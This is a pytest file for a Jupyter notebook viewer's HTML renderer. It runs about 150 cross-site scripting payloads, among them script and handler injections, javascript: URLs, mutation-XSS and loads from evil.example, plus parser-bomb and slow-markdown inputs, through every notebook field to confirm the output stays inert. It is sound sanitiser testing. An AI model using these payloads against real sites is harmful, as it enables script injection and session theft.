"""Nothing of a notebook runs. Each vector goes through every place where a notebook can put it."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from amalthea.services.nbviewer.render import Options, render
from amalthea.services.nbviewer.render.nesting import too_deep
from tests.services.nbviewer.render.making import code, display, markdown, notebook, output, shown, stream, text
from tests.services.nbviewer.render.passive import CONTENT, assert_passive, reading

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' ONERROR = 'alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://x/1">x</a>',
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x"onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/png;base64,x" onload="alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="https://x/\'><script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background:\\75rl(https://evil.example)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
    '<div style="margin-top:-5000px">x</div>',
    "<p style=\"color:red;background-image:image-set('https://evil.example/x' 1x)\">x</p>",
    '<div class="bar skip notice" id="main">x</div>',
    '<a name="body" id="cookie">x</a>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<table><tr><td><svg><desc><td><script>alert(1)</script></table>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "</div></section><script>alert(1)</script>",
    "</pre></code></span><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "$\\text{<script>alert(1)</script>}$",
    "$\\unicode{x3C}script>alert(1)$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(javascript:alert(1))}{x}$",
    '$\\class{"><img src=x onerror=alert(1)>}{x}$',
    '$\\color{red" onclick="alert(1)}{x}$',
    '$\\hspace{1em" onclick="alert(1)}x$',
    "$\\operatorname{&lt;img src=x onerror=alert(1)&gt;}$",
    "$&#x3c;script&#x3e;$",
    "<img alt='$x$' src=x>",
    "<a title='$\"><img src=x onerror=alert(1)>$' href='$javascript:alert(1)$'>x</a>",
    "<a href='java$script:alert(1)$'>x</a>",
    "[x]($javascript:alert(1)$)",
    '<p title="$\\text{"><script>alert(1)</script>}$">x</p>',
    "`$<script>alert(1)</script>$`",
    "<code>$<img src=x onerror=alert(1)>$</code>",
    "```html\n<script>alert(1)</script>\n```",
    '```x"><script>alert(1)</script>\ny\n```',
    '# <img src=x onerror=alert(1)> $<script>$ "><script>',
    "<h1 id='\"><script>alert(1)</script>'>x</h1>",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    '\x1b[38;2;1;2;3"><script>m',
    "\x1b]8;;javascript:alert(1)\x07<img src=x onerror=alert(1)>\x1b]8;;\x07",
    "mth00x mth01x <script>",
    # Mutations: what a parser repairs into something else.
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "<table><math><select><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<p><svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<div><!doctype html><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<a href='#' id=x><a href=javascript:alert(1)>y</a></a>",
    "<b <script>alert(1)</script>0",
    "<div title=`<img src=x onerror=alert(1)>`>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    # Drawings.
    '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName=onload to=alert(1) /></svg>',
    '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)" /><a id=x><rect /></a></svg>',
    '<svg><image href="javascript:alert(1)" onload="alert(1)" /></svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg>&x;</svg>',
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler></svg>",
    # Frames that would like to be ours, or to leave theirs.
    f'<iframe class="frame" sandbox="allow-scripts allow-same-origin" src="{CONTENT}/frame/{"0" * 64}"></iframe>',
    f'<iframe class="frame" src="{CONTENT}/frame/{"0" * 64}" height="99999"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe src="//evil.example/" height="1e9" onload="alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;" height="&quot; onload=alert(1)"></iframe>',
    "<iframe data-html='%3Cscript%3Ealert(1)%3C/script%3E' src=about:blank></iframe>",
    "<iframe src='https://x/\" onload=\"alert(1)'></iframe>",
    "<iframe src=' javascript:alert(1)'></iframe>",
    "<iframe src='java&#10;script:alert(1)'></iframe>",
    "<iframe><script>alert(1)</script></iframe>",
    "</iframe><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "\u2028alert(1)\u2029",
    "<portal src=javascript:alert(1)></portal>",
    "<fencedframe src=//evil.example></fencedframe>",
    "<link rel=import href=//evil.example><link rel=dns-prefetch href=//evil.example>",
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<dialog open>x</dialog><div popover=auto id=p>x</div><button popovertarget=p>x</button>",
    "<style>:target{display:none}</style><x style=content-visibility:auto oncontentvisibilityautostatechange=alert(1)>",
    "<form id=location><input name=attributes></form><img name=getElementById>",
    "<a id=defaultView><a id=defaultView name=frames href=cid:x>x</a></a>",
]


def everywhere(vector: str) -> bytes:
    """A notebook that has `vector` in every field that takes a text."""
    bundles: list[dict[str, Any]] = [
        display({kind: vector}, {kind: {"width": vector, "height": vector, "alt": vector}, "width": vector})
        for kind in (
            "text/html",
            "text/markdown",
            "text/latex",
            "text/plain",
            "image/png",
            "image/svg+xml",
            "application/json",
            "application/javascript",
            "application/vnd.plotly.v1+json",
            vector,
        )
    ]
    bundles += [display(data) for data in (
        {"application/vnd.plotly.v1+json": {"data": [{"name": vector, vector: vector}], "layout": {"height": vector}}},
        {"application/vnd.vegalite.v5+json": {"mark": vector}, "text/plain": vector},
        {"application/vnd.jupyter.widget-view+json": {"model_id": vector}, "text/plain": vector},
        {"application/vnd.bokehjs_exec.v0+json": vector, "application/javascript": f"Bokeh docs_json {vector}"},
        {"application/geo+json": {"type": vector, "coordinates": [vector]}},
        {"text/html": f"<iframe src='{vector}' height='{vector}'></iframe>"},
        {"text/html": f"<script>docs_json; Bokeh; require; Plotly; '{vector}'</script><p>seen</p>"},
    )]  # fmt: skip
    bundles.append(display({"image/png": "aGk="}, {"image/png": {"width": vector, "height": vector, "alt": vector}}))
    bundles.append(display({"application/json": {vector: [vector]}}))
    failure = {"output_type": "error", "ename": vector, "evalue": vector, "traceback": [vector]}
    silent = {"output_type": "error", "ename": vector, "evalue": vector, "traceback": []}
    unknown = {"output_type": vector, "text": vector, "data": {"text/plain": vector}}
    metadata = {"tags": [vector], "name": vector, "collapsed": vector, "scrolled": vector, "jupyter": {vector: vector}}
    cells = [
        markdown(vector, attachments={"a.png": {vector: vector, "image/png": vector}}, metadata=metadata, id=vector),
        markdown(f"![x](attachment:a.png)\n\n{vector}", attachments={"a.png": {"image/png": vector}}),
        code(vector, *bundles, failure, silent, unknown, stream(vector, vector), execution_count=vector, id=vector),
        code(vector, language=vector, metadata={"tags": ["hide-input", "hide-output"], "scrolled": True}),
        {"cell_type": "raw", "source": vector, "metadata": {"format": vector}},
        {"cell_type": vector, "source": vector},
        {"cell_type": "heading", "level": vector, "source": vector},
    ]
    base = {"model_module": vector, "model_module_version": vector, "model_name": vector}
    state = {
        vector: {**base, "state": {"value": vector, "children": ["IPY_MODEL_other"]}},
        "other": {**base, "state": {}},
    }
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": state}}
    kernel = {"display_name": vector, "name": vector, "language": vector}
    return json.dumps(
        {
            "cells": cells,
            "metadata": {"title": vector, "kernelspec": kernel, "widgets": widgets},
            "nbformat": vector,
            "nbformat_minor": 4,
        }
    ).encode()


@pytest.mark.parametrize(
    "alive", [vector for vector in VECTORS if vector.startswith(("<s", "<img src=x o", "<if", "<o"))]
)
def test_the_reader_of_these_tests_finds_what_is_alive(alive: str) -> None:
    assert reading(alive).wrong


@pytest.mark.parametrize("vector", VECTORS)
def test_no_attack_survives_in_any_field(vector: str) -> None:
    page = render(everywhere(vector), Options(raw_base="https://raw.example.org/x/", link_base="/github/u/r/"))
    reader = assert_passive(page.body)
    assert sum(tag == "section" and "cell-" in (attributes.get("id") or "") for tag, attributes in reader.tags) == 7


@pytest.mark.parametrize("vector", VECTORS)
def test_no_attack_survives_outside_a_sandboxed_frame(vector: str) -> None:
    options = Options(raw_base="https://raw.example.org/x/", link_base="/github/u/r/", content=CONTENT)
    page = render(everywhere(vector), options)
    reader = assert_passive(page.body)
    assert sum(tag == "section" and "cell-" in (attributes.get("id") or "") for tag, attributes in reader.tags) == 7
    shown = {(attributes["src"] or "").rpartition("/")[2] for tag, attributes in reader.tags if tag == "iframe"}
    assert shown == {frame.digest for frame in page.frames}
    for frame in page.frames:
        assert frame.digest == hashlib.sha256(frame.body.encode("utf-8", "replace")).hexdigest()


@given(
    pieces=st.lists(st.sampled_from(VECTORS) | st.text(max_size=20), max_size=6),
    kind=st.sampled_from(["text/html", "text/markdown", "application/javascript", "application/vnd.plotly.v1+json"]),
)
@settings(max_examples=60, deadline=None)
def test_no_mixture_of_attacks_survives(pieces: list[str], kind: str) -> None:
    mixture = "".join(pieces)
    page = shown(
        markdown(mixture),
        code(mixture, display({kind: mixture, "text/plain": mixture}), display({"text/html": f"<p>{mixture}"})),
        options=Options(content=CONTENT),
    )
    assert_passive(page.body)


@pytest.mark.parametrize("vector", VECTORS)
def test_no_attack_survives_next_to_another(vector: str) -> None:
    for other in VECTORS[:: len(VECTORS) // 10]:
        assert_passive(text(f"{vector}{other}"))
        assert_passive(output(display({"text/html": f"{other}<div>{vector}"})))


def test_a_drawing_is_only_ever_an_image() -> None:
    body = output(display({"image/svg+xml": '<svg onload="alert(1)"><script>alert(1)</script></svg>'}))
    found = re.search(r'<img src="data:image/svg\+xml;base64,([^"]+)"', body)
    assert found is not None
    assert b"<svg" in base64.b64decode(found[1])
    assert "onload" not in body


def test_classes_and_ids_of_a_notebook_cannot_stand_for_the_pages_own() -> None:
    body = text('<div class="bar alert alert-info skip" id="main">x</div><a name="main">y</a>')
    assert '<div class="alert alert-info" id="nb-main">' in body
    assert 'name="nb-main"' in body


def test_links_tell_the_other_side_nothing_and_search_engines_little() -> None:
    assert 'rel="noopener nofollow"' in text("[x](https://example.org)")


def test_data_frames_keep_what_makes_them_readable() -> None:
    frame = (
        '<style scoped>.dataframe {color: red}</style><table border="1" class="dataframe x"><caption>c</caption>'
        '<thead><tr style="text-align: right;"><th colspan="2" scope="col">a</th></tr></thead>'
        '<tbody><tr><td rowspan="3" style="color: red; position: fixed">1</td></tr></tbody></table>'
    )
    body = output(display({"text/html": frame}))
    for part in ('class="dataframe"', "<caption>c</caption>", 'colspan="2"', 'scope="col"', 'style="text-align:right"',
                 'rowspan="3"', 'style="color:red"'):  # fmt: skip
        assert part in body
    assert "position" not in body
    assert ".dataframe" not in body


BOMBS = {
    "deep": "<div>" * 100_000,
    "deep behind attributes": '<div a="</div>">' * 20_000,
    "deep behind comments": "<div><!-- </div> -->" * 20_000,
    "deep in tables": "<div><table><tr><td></div>" * 20_000,
    "deep in raw text": "<div><style></div></style>" * 20_000,
    "deep behind quotes": "<p '><div><div><p '>" * 20_000,
    "formatting never closed": "".join(f'<b class="x{n}">' for n in range(50_000)),
    "formatting copied": "<div><b title='" + "a" * 1000 + "'></div>" + "<p>x" * 50_000,
    "formatting misnested": "<div><b class=x></div>" * 20_000,
}


@pytest.mark.parametrize(
    "piece", ["<script", "<script ", "<br", "<link ", "<meta a=", "<!doctype ", "<style>", "<iframe src="]
)
def test_time_grows_with_the_length_of_live_html_alone(piece: str) -> None:
    html = piece * (100_000 // len(piece))
    started = time.process_time()
    shown(code("x", display({"text/html": html})), code("x", display({"application/javascript": html})))
    assert time.process_time() - started < 1.5


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_html_built_to_hurt_parsers_is_not_parsed(bomb: str) -> None:
    assert too_deep(bomb)
    started = time.process_time()
    page = shown(markdown(bomb), code("x", display({"text/html": bomb})))
    assert time.process_time() - started < 3
    assert "nested too deeply" in page.body
    assert_passive(page.body)


SLOW = {
    "dollars": "$" * 200_000,
    "openings": "\\(" * 100_000 + "\\begin{a}" * 20_000,
    "backticks": "".join("`" * (n % 500) + " " for n in range(4000)),
    "nested brackets": "[" * 100_000 + "](x)" * 10_000,
    "emphasis": "*a **b _c " * 20_000,
    "quotes": ">" * 50_000,
    "wide table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + "|a|\n" * 5000,
    "footnotes": "[^a]: x\n\n" + "[^a]" * 100_000,
    "references": "[a]: http://x/" + "y" * 50_000 + "\n\n" + "[a]" * 50_000,
    "equal headings": "# a\n" * 20_000,
    "formulas that grow": "$\\def\\a{\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c}\\def\\c{\\a\\a\\a\\a}\\a$ " * 200,
    "one long formula many times": f"$\\def\\a{{{'x^2+' * 400}1}}$" + " $\\a$" * 20_000,
    "frames": "<iframe " * 20_000,
    "handlers": "<a " + " on" * 50_000,
}


@pytest.mark.parametrize("source", SLOW.values(), ids=SLOW)
def test_markdown_takes_time_by_its_length_alone(source: str) -> None:
    started = time.process_time()
    page = shown(markdown(source))
    assert time.process_time() - started < 5
    assert len(page.body) < 40_000_000
    assert_passive(page.body)


def test_one_attachment_shown_often_does_not_fill_the_page() -> None:
    limits = Options().limits.__class__(attached=1000)
    cell = markdown("![x](attachment:a.png) " * 100, attachments={"a.png": {"image/png": "a" * 100}})
    page = shown(cell, options=Options(limits=limits))
    assert page.body.count("base64") == 10


def test_a_name_of_a_language_is_a_name() -> None:
    page = render(notebook(code("1"), language_info={"name": '"><script>alert(1)</script>'}))
    assert_passive(page.body)
    assert "<script>" not in page.body
